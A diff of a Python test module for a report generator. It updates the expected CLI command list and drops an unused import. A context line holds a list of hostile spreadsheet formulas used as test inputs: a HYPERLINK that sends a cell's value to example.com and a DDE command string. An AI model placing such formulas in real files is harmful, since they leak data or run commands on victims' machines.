@@ -28,7 +28,6 @@ from reportgen.problems import BuildError, ConfigError
 from reportgen.render import render_html, template_dirs
 from reportgen.round.sheets import write_round
 from reportgen.sheets.feedback import write_feedback
-from reportgen.sheets.template import write_template
 from reportgen.writers import inside
 
 from .conftest import SAMPLE_CONFIG
@@ -39,7 +38,8 @@ HOSTILE = ['=HYPERLINK("http://example.com/?"&B19, "Klik her")', "=cmd|' /C calc
 def test_the_cli_group_has_every_command_reportgen_help_lists():
     listed = subprocess.run([sys.executable, "-m", "reportgen", "--help"], capture_output=True, text=True, check=True)
     commands = set(re.findall(r"^  (\w+)\s", listed.stdout.split("Commands:")[1], re.MULTILINE))
-    assert commands == set(cli.commands) == {"archive", "build", "check", "diff", "extract", "new", "publish",
+    assert commands == set(cli.commands) == {"archive", "build", "check", "diff", "export", "extract", "history", "new",
+                                              "proof", "publish",
                                               "serve", "sheets", "template"}
 
 
